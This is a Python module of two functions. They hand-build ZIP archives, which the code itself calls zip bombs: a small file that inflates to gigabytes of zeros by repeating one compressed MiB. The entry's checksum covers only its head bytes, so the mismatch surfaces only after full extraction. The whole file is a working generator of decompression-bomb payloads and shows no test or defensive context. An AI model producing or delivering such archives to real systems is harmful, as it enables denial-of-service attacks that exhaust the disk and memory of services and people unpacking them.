"""Small packed data that unpack to gigabytes, made without packing gigabytes."""

import struct
import zlib


def packed_zeros(size: int, bits: int, head: bytes = b"") -> bytes:
    """Return a head and zeros, packed by DEFLATE: one packed MiB stands there again and again.

    Args:
        size: of the zeros, a number of MiB [bytes].
        bits: of zlib, negative for data without its header. With the header, the checksum at the end is that of a part.
        head: what comes before the zeros.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, bits)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    zeros = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + zeros * (size >> 20) + packer.flush()


def zip_bomb(inside: str, size: int = 3 << 30, head: bytes = b"", others: dict[str, bytes] | None = None) -> bytes:
    """Return an archive with an entry `inside` of a head and zeros; its checksum is that of the head alone.

    Args:
        inside: name of the entry that unpacks to gigabytes.
        size: of its zeros, a number of MiB [bytes].
        head: what comes before the zeros.
        others: further entries, as they are.
    """
    bits = -zlib.MAX_WBITS
    entries = [(name, data, len(data), packed_zeros(0, bits, data)) for name, data in (others or {}).items()]
    entries.append((inside, head, len(head) + size, packed_zeros(size, bits, head)))
    out, names = b"", b""
    for name, checked, length, packed in entries:
        sizes = (zlib.crc32(checked), len(packed), length, len(name), 0)
        fields = struct.pack("<5H3I2H", 20, 0, 8, 0, 33, *sizes)
        names += b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<3H2I", 0, 0, 0, 0, len(out))
        names += name.encode()
        out += b"PK\x03\x04" + fields + name.encode() + packed
    end = struct.pack("<4H2IH", 0, 0, len(entries), len(entries), len(names), len(out), 0)
    return out + names + b"PK\x05\x06" + end
